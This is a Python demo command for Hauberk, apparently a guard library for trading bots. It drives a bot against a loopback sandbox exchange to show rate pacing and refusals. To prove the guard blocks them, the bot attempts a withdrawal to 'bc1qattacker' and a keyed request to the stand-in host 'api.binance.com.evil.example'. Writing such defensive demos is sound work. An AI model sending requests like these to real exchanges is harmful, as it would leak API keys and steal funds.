"""`hauberk demo`: a bot trades through Hauberk on a sandbox, and what must not leave does not.

Everything is real but the exchange: HTTP on loopback, signatures, limits, refusals.
"""

from __future__ import annotations

import asyncio
import http.client
import json
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import urlsplit

from attrs import define, field

from hauberk.cli.answer import Answer, table
from hauberk.cli.options import Options
from hauberk.errors import Denied
from hauberk.hooks import Plugin, hookimpl
from hauberk.records import Incident, Outcome, Severity
from hauberk.request import Request, Response
from hauberk.verdicts import Deny

if TYPE_CHECKING:
    from hauberk.guard import Guard
    from hauberk_plugins.sandbox import SandboxServer

#: What the sandbox allows, and what the guard is told of it: small, so that pacing is seen.
WEIGHT: Final = 20
WEIGHT_S: Final = 3
ORDERS: Final = 15
ORDERS_S: Final = 3
_KEY, _SECRET = "demo-key-not-a-real-one", "demo-secret-not-a-real-one"

_CONFIG: Final = """\
state: hauberk-state
plugins: [killswitch, policy, bots, throttle, signing, logs]
required: [killswitch, policy, throttle, signing]
accounts:
  main: {{venue: binance, key: env:DEMO_KEY, secret: env:DEMO_SECRET, base_url: "{url}"}}
keys: {{dotenv: "{dotenv}"}}
throttle:
  windows:
    binance:
      - {{name: weight, kind: calendar, scope: ip, seconds: {weight_s}, size: {weight}, counts: weight}}
      - {{name: orders, kind: rolling, scope: account, seconds: {orders_s}, size: {orders}, counts: orders}}
logs: {{format: json, file: "{log}"}}
"""  # noqa: E501


class Prudence(Plugin):
    """The bot's own hooks: a limit that is its business alone, and what it does on an incident."""

    def __init__(self) -> None:
        self.is_paused = False

    @hookimpl
    def on_request(self, request: Request) -> Deny | None:
        """No single order above one coin."""
        quantity = dict(request.params).get("quantity", "0")
        return Deny("the bot trades at most 1 BTC an order") if float(quantity) > 1 else None

    @hookimpl
    def on_incident(self, incident: Incident) -> Outcome | None:
        """Pause the strategy."""
        if incident.severity < Severity.HIGH:
            return None
        self.is_paused = True
        return Outcome("the bot paused its strategy")


@define
class Row:
    """One line of the closing table."""

    what: str
    tried: int = 0
    left: int = 0
    refused: int = 0
    by: str = ""
    why: str = ""
    seconds: float = 0.0


@define
class Bot:
    """A small trading bot: builds requests, has them cleared, sends them as they are."""

    guard: Guard
    url: str
    last: Any = field(init=False, default=None)

    def request(self, method: str, path: str, **params: Any) -> Request:
        """Build a request."""
        return Request(method, self.url + path, params)

    def order(self, quantity: str = "0.001") -> Request:
        """Build a market order."""
        return self.request(
            "POST", "/api/v3/order", symbol="BTCUSDT", side="BUY", type="MARKET", quantity=quantity
        )

    def send(self, request: Request) -> int:
        """Have a request cleared, send it, settle it; return the exchange's status."""
        cleared = self.guard.clear(request)
        response = _sent(cleared.request)
        self.guard.settle(cleared, response)
        self.last = json.loads(response.body)
        return response.status

    async def asend(self, request: Request) -> int:
        """The same for asyncio."""
        cleared = await self.guard.aclear(request)
        response = await asyncio.to_thread(_sent, cleared.request)
        self.guard.settle(cleared, response)
        return response.status


def demo(*, options: Options = Options()) -> Answer:
    """Trade on a sandbox exchange for a quarter of a minute and show what Hauberk did.

    Nothing outside this machine is reached and nothing is left behind. For example:
        hauberk demo
    """
    say: Callable[[str], object] = (
        (lambda _: None) if options.json else lambda text: print(text, flush=True)  # noqa: T201
    )
    with tempfile.TemporaryDirectory(prefix="hauberk-demo-") as folder, _exchange() as server:
        from hauberk import open as open_guard

        with open_guard(_configure(Path(folder), server.url)) as guard:
            rows = _story(guard, server, say)
        exchange = server.exchange
        document: dict[str, Any] = {
            "rows": [
                {name: getattr(row, name) for name in row.__slots__ if name[0] != "_"}
                for row in rows
            ],
            "exchange": {
                "answered_429": exchange.answered(429) + exchange.answered(418),
                "withdrawals": len(exchange.withdrawals),
                "orders": len(exchange.orders("main")),
            },
        }
    ok = not document["exchange"]["answered_429"] and not document["exchange"]["withdrawals"]
    return Answer(document, lambda: _closing(rows, document["exchange"]), ok)


def _story(guard: Guard, server: SandboxServer, say: Callable[[str], object]) -> list[Row]:
    bot, prudence = Bot(guard, server.url), Prudence()
    guard.register(prudence, name="prudence")
    say(f"A sandbox exchange listens on {server.url}: {WEIGHT} weight in {WEIGHT_S} s, "
        f"{ORDERS} orders in {ORDERS_S} s.")  # fmt: skip

    say("The bot sends 40 orders as fast as it can; Hauberk paces them …")
    rows = [_each("40 orders in a loop", 40, lambda: bot.send(bot.order()))]
    say("… and 20 at once from asyncio, under the same budget …")
    rows.append(_at_once("20 orders at once, asyncio", 20, bot))
    say("It tries what its account may not do, or it should not …")
    withdraw = {"coin": "BTC", "address": "bc1qattacker", "amount": "2"}
    rows.append(
        _each("a withdrawal", 1, lambda: bot.send(
            bot.request("POST", "/sapi/v1/capital/withdraw/apply", **withdraw)
        ))
    )  # fmt: skip
    rows.append(_each("an endpoint that no map knows", 1, lambda: bot.send(
        bot.request("POST", "/sapi/v1/anything"))))  # fmt: skip
    rows.append(_each("the same key at another host", 1, lambda: bot.send(
        Request("GET", "https://api.binance.com.evil.example/api/v3/account"))))  # fmt: skip
    rows.append(_each("an order of 50 BTC", 1, lambda: bot.send(bot.order("50"))))

    say("Something is wrong: the bot reports a HIGH incident …")
    bot.send(bot.request("POST", "/api/v3/order", symbol="BTCUSDT", side="BUY", type="LIMIT",
                         timeInForce="GTC", quantity="0.001", price="30000.00"))  # fmt: skip
    resting = bot.last["orderId"]
    incident = guard.report("runaway loop", Severity.HIGH, {"orders": 61})
    for outcome in incident.outcomes:
        say(f"  {outcome.plugin}: {outcome.did} ({outcome.took_ns / 1e6:.2f} ms)")
    rows.append(_each("an order after HIGH", 1, lambda: bot.send(bot.order())))
    rows.append(_each("a cancel after HIGH", 1, lambda: bot.send(
        bot.request("DELETE", "/api/v3/order", symbol="BTCUSDT", orderId=resting))))  # fmt: skip
    say("… and then a CRITICAL one: nothing leaves any more.")
    guard.report("key seen in a public repository", Severity.CRITICAL)
    rows.append(_each("anything after CRITICAL", 1, lambda: bot.send(
        bot.request("GET", "/api/v3/openOrders", symbol="BTCUSDT"))))  # fmt: skip
    return rows


def _each(what: str, count: int, send: Callable[[], int]) -> Row:
    row, began = Row(what, tried=count), time.monotonic()
    for done in range(count):
        _progress(what, done, count)
        _count(row, send)
    row.seconds = round(time.monotonic() - began, 2)
    return row


def _count(row: Row, send: Callable[[], int]) -> None:
    try:
        status = send()
    except Denied as denied:
        row.refused += 1
        row.by, row.why = denied.plugin, denied.reason
        return
    row.left += 1
    if status != 200:
        row.by = f"exchange: {status}"


def _at_once(what: str, count: int, bot: Bot) -> Row:
    async def burst() -> list[int | BaseException]:
        sends = [bot.asend(bot.order()) for _ in range(count)]
        return await asyncio.gather(*sends, return_exceptions=True)

    row, began = Row(what, tried=count), time.monotonic()
    for result in asyncio.run(burst()):

        def outcome(result: int | BaseException = result) -> int:
            if isinstance(result, BaseException):
                raise result
            return result

        _count(row, outcome)
    row.seconds = round(time.monotonic() - began, 2)
    return row


def _progress(what: str, done: int, count: int) -> None:
    if count > 1 and sys.stderr.isatty():
        end = "\n" if done + 1 == count else ""
        sys.stderr.write(f"\r  {what}: {done + 1}/{count}{end}")
        sys.stderr.flush()


@contextmanager
def _exchange() -> Iterator[SandboxServer]:
    from hauberk_plugins.sandbox import Limit, SandboxExchange, SandboxServer

    exchange = SandboxExchange(
        weight_limit=Limit(WEIGHT, WEIGHT_S), order_limits=(Limit(ORDERS, ORDERS_S),)
    )
    # This key could withdraw. That it never does is Hauberk's doing.
    exchange.add_key(_KEY, _SECRET, may=("read", "trade", "withdraw"))
    with SandboxServer(exchange) as server:
        yield server


def _configure(folder: Path, url: str) -> Path:
    dotenv = folder / ".env"
    dotenv.touch(0o600)
    dotenv.write_text(f"DEMO_KEY={_KEY}\nDEMO_SECRET={_SECRET}\n", encoding="utf-8")
    config = folder / "hauberk.yml"
    config.write_text(
        _CONFIG.format(
            url=url, dotenv=dotenv, log=folder / "events.jsonl", weight=WEIGHT,
            weight_s=WEIGHT_S, orders=ORDERS, orders_s=ORDERS_S,
        ),
        encoding="utf-8",
    )  # fmt: skip
    return config


def _sent(signed: Request) -> Response:
    parts = urlsplit(signed.url)
    connection = http.client.HTTPConnection(parts.netloc, timeout=10)
    try:
        target = signed.url[len(f"{parts.scheme}://{parts.netloc}") :]
        connection.request(signed.method, target, signed.body, dict(signed.headers))
        answer = connection.getresponse()
        return Response(answer.status, answer.getheaders(), answer.read())
    finally:
        connection.close()


def _closing(rows: list[Row], exchange: dict[str, int]) -> Any:
    from rich.console import Group
    from rich.text import Text

    drawn = table(
        "What the bot tried, and what became of it",
        ("what", "tried", "left", "refused", "seconds", "refused by"),
        [(r.what, r.tried, r.left, r.refused, f"{r.seconds:.2f}", r.by) for r in rows],
    )
    reasons = Text("\n".join(f"{r.by}: {r.why}" for r in rows if r.why), style="dim")
    verdict = (
        f"\nThe exchange filled {exchange['orders']} orders, had to answer 429 or 418 "
        f"{exchange['answered_429']} times, and saw {exchange['withdrawals']} withdrawals."
    )
    return Group(Text(), drawn, Text("\nThe reasons given:"), reasons, Text(verdict))
